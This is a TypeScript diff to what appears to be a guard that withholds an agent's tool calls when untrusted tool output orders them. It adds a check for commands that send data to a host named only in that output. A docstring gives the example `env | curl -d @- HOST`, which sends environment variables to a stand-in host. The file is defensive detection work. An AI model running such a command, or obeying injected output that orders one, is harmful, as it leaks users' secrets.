@@ -25,12 +25,14 @@ import { layOutput } from '../text/lay-out-output.ts'
 import { type ForeignOutput, openForeignOutputs } from '../trust/foreign-outputs.ts'
 import { holdsValue } from '../trust/holds-value.ts'
 import { soughtValues } from '../trust/sought-values.ts'
+import { targetType } from '../trust/target-type.ts'
 import { openTrustedTexts } from '../trust/trusted-texts.ts'
 import { writtenCalls } from './consequential-calls.ts'
 import { type CallValue, callsOf, type ForeignCall, isUnasked, matchCalls, valuesOf } from './foreign-call.ts'
+import { isOnlyRunning } from './foreign-target.ts'
 import { defineWithholding } from './withhold.ts'
 
-export const orderedCall = defineWithholding({ name: 'ordered-call', version: 4, severity: 0.93, match: matchOrdered })
+export const orderedCall = defineWithholding({ name: 'ordered-call', version: 5, severity: 0.93, match: matchOrdered })
 
 function matchOrdered(scene: Scene & KnownTools): Match | null {
   const isToKnow = once(() => scene.reading.index(openTrustedTexts).mode() === 'to-know')
@@ -93,7 +95,28 @@ function isLinked(values: readonly CallValue[], action: ToolAction, scene: Scene
 }
 
 function writtenBy(readable: ReadableCall, scene: Scene & KnownTools): readonly ForeignCall[] {
-  return [...spelledOut(readable, scene), ...orderedByVerb(readable, scene)].slice(0, 1)
+  return [...spelledOut(readable, scene), ...orderedByVerb(readable, scene), ...sentElsewhere(readable, scene)].slice(
+    0,
+    1,
+  )
+}
+
+/** A command that does more than read, and names a host that only the running text of an output holds: `env | curl -d @- HOST`. */
+function sentElsewhere(readable: ReadableCall, scene: Scene): readonly ForeignCall[] {
+  if (!soughtValues(readable.call).some(({ text }) => isCommand(text) && !onlyFetches(text))) return []
+  const values = valuesOf(readable, scene)
+  const host = values.find((value) => targetType(value.text) === 'web' && isOnlyRunning(value))
+  const [place] = host?.foreign() ?? []
+  if (!host || !place) return []
+  return [{ ...readable, output: place.output, at: place.at, shown: host.text, values, asked: null }]
+}
+
+/** Whether each part of a pipe only reads, or only names an address: `curl -s HOST/page | head -5`. */
+function onlyFetches(command: string): boolean {
+  return command.split('|').every((part) => {
+    const [first = '', ...rest] = part.trim().split(' ')
+    return readCommands.has(first) || rest.every((word) => word.startsWith('-') || word.includes('://'))
+  })
 }
 
 /**
